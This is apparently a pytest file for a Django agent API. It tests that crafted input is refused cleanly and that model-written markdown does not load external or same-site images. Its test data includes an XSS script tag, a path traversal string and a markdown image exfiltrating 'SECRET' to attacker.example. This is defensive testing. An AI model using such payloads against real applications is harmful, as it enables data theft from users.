"""Crafted input is refused with a 4xx naming the field, never a 500, and nothing is written: NUL
characters and unpaired surrogates (PostgreSQL cannot store them), JSON nested past the parser's
limit, a signed-in user with no team creating a session, and an unknown tool name echoed back."""

from __future__ import annotations

import json

import pytest
from django.urls import reverse

from agents.models import AgentSession, Turn
from agents.sessions import session_create
from aptix.inputs import ERROR_FORM_NOT_JSON
from aptix.tokens import api_token_create

API = "/api/v1/agent/execute"


@pytest.fixture
def token(alice):
    return api_token_create(user=alice, name="ci")[1]


def api(client, token, raw: str | bytes):
    response = client.post(API, data=raw, content_type="application/json", headers={"Authorization": f"Bearer {token}"})
    return response.status_code, json.loads(response.content)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "body, field",
    [
        ({"message": "hi\u0000there"}, "message"),
        ({"message": "hi", "conversationId": "abc\u0000"}, "conversationId"),
        ({"message": "hi \ud800"}, "message"),
        (
            {"message": "hi", "tools": [{"type": "function", "function": {"name": "x", "description": "a\u0000"}}]},
            "tools[0].function.description",
        ),
    ],
)
def test_the_api_refuses_unstorable_strings_naming_the_field(client, token, body, field):
    status, answer = api(client, token, json.dumps(body))
    assert status == 400 and answer["error"]["field"] == field, answer
    assert AgentSession.objects.count() == 0 and Turn.objects.count() == 0


@pytest.mark.django_db
def test_the_api_refuses_json_nested_too_deeply(client, token):
    status, answer = api(client, token, "[" * 100_000 + "]" * 100_000)
    assert status == 400 and "nested too deeply" in answer["error"]["message"]


@pytest.mark.django_db
@pytest.mark.parametrize("path", [API, "/api/v1/catalog/modes/general/drafts", "/api/v1/projects"])
def test_a_form_sent_where_json_is_read_gets_a_415_saying_so_not_a_500(client, token, path):
    """`curl -F message=hi`: the middleware that checks form fields parsed the multipart body, after
    which Django refuses a JSON view the raw body (it answered 500)."""
    response = client.post(path, data={"message": "hi"}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 415
    assert json.loads(response.content)["error"]["message"] == ERROR_FORM_NOT_JSON
    assert not Turn.objects.exists()


@pytest.mark.django_db
def test_pages_and_forms_refuse_nul_naming_the_field(client, alice, team_a, password):
    session = session_create(team=team_a, user=alice)
    client.login(username=alice.username, password=password)
    response = client.get(reverse("home"), {"q": "a\x00b"})
    assert response.status_code == 400 and b"parameter 'q' contains a NUL character" in response.content
    response = client.post(reverse("turn-new", args=[session.id]), {"message": "hi\x00"})
    assert response.status_code == 400 and b"field 'message'" in response.content
    response = client.get("/sessions/abc%00def/")
    assert response.status_code == 400 and b"address contains a NUL" in response.content
    assert Turn.objects.count() == 0


@pytest.mark.django_db
def test_an_unknown_tool_is_not_echoed_as_html(client, alice, team_a, password):
    session = session_create(team=team_a, user=alice)
    client.login(username=alice.username, password=password)
    response = client.post(reverse("session-tools", args=[session.id]), {"tool": "<script>alert(1)</script>"})
    assert response.status_code == 400 and response["Content-Type"].startswith("text/plain")


@pytest.mark.django_db
def test_a_user_without_a_team_cannot_create_a_session_and_gets_no_500(client, django_user_model, password):
    django_user_model.objects.create_user("loner", password=password)
    client.login(username="loner", password=password)
    response = client.post(reverse("session-new"), {"mode": "general", "execution": "ask"})
    assert response.status_code in (400, 403, 422) and AgentSession.objects.count() == 0


@pytest.mark.django_db
def test_pages_carry_a_content_security_policy(client, alice, password):
    client.login(username=alice.username, password=password)
    policy = client.get(reverse("home"))["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["default-src"] == "'self'" and directives["script-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'" and directives["img-src"] == "'self' data:"
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


@pytest.mark.parametrize(
    "src",
    [
        "/logout/",
        "/api/v1/conversations",
        "/media/images/s/1.png",
        f"/media/files/{'a' * 32}/{'b' * 32}/x.png",
        f"/media/images/{'a' * 32}/{'b' * 32}.svg",
        f"/static/../media/images/{'a' * 32}/{'b' * 32}.png",
    ],
)
def test_model_markdown_loads_no_same_site_path_but_our_images(src):
    """A same-site path is allowed by the CSP, so an image there would be fetched by every viewer
    (`![f](/logout/)` signs them out): only a session image of ours is shown."""
    from agents.web.markdown import render_markdown

    html = render_markdown(f"![f]({src})")
    assert "<img" not in html
    assert "external image, not loaded" in html


def test_model_markdown_links_external_images_instead_of_loading_them():
    from agents.web.markdown import render_markdown

    chart = f"/media/images/{'a' * 32}/{'b' * 32}.png"
    html = render_markdown(f"![x](https://attacker.example/?d=SECRET) ![chart]({chart}) ![y](//evil/x)")
    assert "<img" in html and f'src="{chart}"' in html
    assert html.count("<img") == 1  # the external ones are links, never fetched
    assert '<a href="https://attacker.example/?d=SECRET"' in html and "external image, not loaded" in html
